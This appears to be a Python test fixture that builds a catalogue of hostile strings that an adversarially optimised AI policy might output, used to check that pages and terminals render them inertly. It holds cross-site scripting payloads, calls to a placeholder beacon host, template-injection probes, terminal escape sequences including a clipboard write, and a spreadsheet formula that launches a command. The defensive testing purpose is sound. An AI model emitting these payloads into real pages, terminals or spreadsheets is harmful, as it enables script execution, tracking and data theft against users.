"""Text that would act if anybody let it: what a policy that is optimised against us may write.

Every payload is made from parts: a way to run code or to reach the network, in a context it might break out of. Each
tries to leave a trace that a test can see: a dialog, a changed title, a request to a host that must hear nothing, or an
escape sequence that a terminal would obey.
"""

from __future__ import annotations

from itertools import product

TRACE = "document.title='taken'"  # what a payload does when it runs; the page's title must stay its own
BEACON = "http://beacon.invalid/"  # never to be asked for

CALLS = (
    f"{TRACE}",
    "alert(1)",
    f"fetch('{BEACON}')",
    f"import('{BEACON}x.js')",
    f"new Image().src='{BEACON}'",
    f"location='{BEACON}'",
    "[].constructor.constructor('alert(2)')()",
)
ELEMENTS = (
    "<script>{call}</script>",
    "<script type=module>{call}</script>",
    "<img src=x onerror={quoted}>",
    "<svg onload={quoted}></svg>",
    "<svg><script>{call}</script></svg>",
    "<body onload={quoted}>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<iframe src=javascript:{call}></iframe>",
    "<a href=javascript:{call}>read on</a>",
    "<details open ontoggle={quoted}>",
    "<input autofocus onfocus={quoted}>",
    "<video><source onerror={quoted}></video>",
    "<math><mtext><img src=x onerror={quoted}></mtext></math>",
    "<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={quoted}></b>",
    "<object data=javascript:{call}></object>",
    "<form action=javascript:{call}><button autofocus>",
    "<button popovertarget=p onclick={quoted}>",
)
CONTEXTS = (
    "{0}",
    '">{0}',
    "'>{0}",
    "</script>{0}",
    "</textarea></title></style>{0}",
    "-->{0}<!--",
    "]]>{0}",
    "`${{{0}}}`",
)
REMOTE = (
    f"<img src={BEACON}a.png>",
    f'<img srcset="{BEACON}b.png 2x">',
    f"<link rel=stylesheet href={BEACON}c.css>",
    f"<link rel=preload as=script href={BEACON}d.js>",
    f"<meta http-equiv=refresh content='0;url={BEACON}'>",
    f"<base href={BEACON}>",
    f"<style>@import url({BEACON}e.css);</style>",
    f"<b style=background:url({BEACON}f.png)>bold</b>",
    f"<embed src={BEACON}g.swf>",
    f"<audio src={BEACON}h.ogg autoplay>",
    f"![picture]({BEACON}i.png)",
    f"[link](javascript:{TRACE})",
    f"<{BEACON}>",
    f"[[{BEACON}]]",
)
TEMPLATES = (
    "{{constructor.constructor('alert(3)')()}}",
    "${7*7}",
    "<%= 7*7 %>",
    "{{7*7}}",
    "#{7*7}",
    "[[${7*7}]]",
    "[link=https://beacon.invalid]press[/link]",
    "[bold red]paid[/bold red]",
    "[/x]",
    "[@click=app.bell]ring[/]",
)
CONTROL = (
    "\x1b[2J\x1b[H",
    "\x1b]0;taken\x07",
    "\x1b]8;;http://beacon.invalid\x1b\\press\x1b]8;;\x1b\\",
    "\x1b]52;c;dGFrZW4=\x07",
    "\x1b[8mhidden\x1b[0m",
    "\x9b31mred",
    "\x07\x08\x08\x08",
    "a\rb",
    "\x00\x01\x02",
    "\x7f",
    "\u202eevil\u202c",
    "\u2066isolated\u2069",
    "\u200bzero\u200cwidth\u200d\ufeff",
    "\u2028line\u2029paragraph",
    "\ud800 alone",
    "\udc00",
    "\ue000 private",
    "\U000e0041\U000e0042",
    "\ufff9noted\ufffa\ufffb",
    "e\u0301\u0302\u0303\u0304\u0305\u0306",
    "\\u{1b}[2J",
    "\\u{5c}u{41}",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "+1+1",
    "\t=1",
    "```\nfence\n````",
    "``````",
    "\n\n# heading\n\n---\n",
    "</pre></code>",
    "a" * 5000,
    "𝕬" * 300,
    "👩‍👩‍👧‍👦",
    "\u0600\u061c\u180e",
)


def payloads() -> list[str]:
    """Every payload once, in a fixed order.

    >>> found = payloads()
    >>> len(found) >= 500, len(set(found)) == len(found)
    (True, True)
    """
    made = [
        element.format(call=call, quoted='"' + call.replace('"', "&quot;") + '"')
        for element, call in product(ELEMENTS, CALLS)
    ]
    broken = [context.format(made[k % len(made)]) for k, context in enumerate(CONTEXTS * 50)]
    return list(dict.fromkeys([*made, *broken, *REMOTE, *TEMPLATES, *CONTROL]))
